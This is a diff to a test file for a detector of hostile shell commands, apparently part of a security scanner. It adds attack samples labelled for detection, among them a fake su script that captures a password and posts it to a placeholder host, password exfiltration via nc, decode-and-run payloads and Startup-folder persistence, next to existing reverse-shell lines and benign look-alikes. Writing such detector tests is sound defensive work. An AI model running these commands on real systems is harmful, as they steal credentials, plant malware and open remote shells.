@@ -29,6 +29,15 @@ describe('shellSignals', () => {
     [`powershell -nop -w hidden -enc ${encoded}`, 'encoded-command'],
     [`powershell -EncodedCommand ${encoded}`, 'download-and-run'],
     ['echo ZWNobyBoaQ== | base64 -d | sh', 'encoded-command'],
+    ['certutil -f -decode setup.cmd "%TEMP%\\svc.exe"\nstart "" /b "%TEMP%\\svc.exe"', 'encoded-command'],
+    ['tail -n +9 "$0" | base64 -d > /tmp/.x; chmod +x /tmp/.x', 'encoded-command'],
+    ['openssl enc -d -aes-256-cbc -d -in a.bin -out /tmp/b.sh && sh /tmp/b.sh', 'encoded-command'],
+    ['copy /y a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe" >nul', 'autostart'],
+    ['read -rs word; echo "$word" | nc h.example 99', 'command-sends-data'],
+    [
+      `printf '%s\\n' '#!/bin/sh' 'stty -echo' 'read -r p' 'stty echo' 'curl -d "$p" https://h.example' > ~/bin/su`,
+      'command-sends-data',
+    ],
     ["bash -c 'bash -i >& /dev/tcp/h.example/9001 0>&1'", 'reverse-shell'],
     ['exec 5<>/dev/tcp/h.example/9001', 'reverse-shell'],
     ['nc -e /bin/sh h.example 4444', 'reverse-shell'],
@@ -78,6 +87,11 @@ describe('shellSignals', () => {
     'curl http://localhost:3000/health',
     'patch-package; ngcc --properties es2015',
     'cp -r src/assets ~/tmp',
+    'certutil -decode cert.b64 cert.crt && certutil -addstore Root cert.crt',
+    'echo "$KEYSTORE" | base64 -d > release.jks && chmod 600 release.jks',
+    'copy /y a.ico "%APPDATA%\\tool\\a.ico"',
+    'read -rsp "Token: " token; echo "//registry.npm.example/:_authToken=$token" > .npmrc',
+    `printf '%s\\n' '#!/bin/sh' 'exec node "$(dirname "$0")/cli.js" "$@"' > bin/tool`,
   ];
   for (const text of honest) {
     it(`finds nothing in ${text}`, () => assert.deepEqual(kindsIn(text), []));
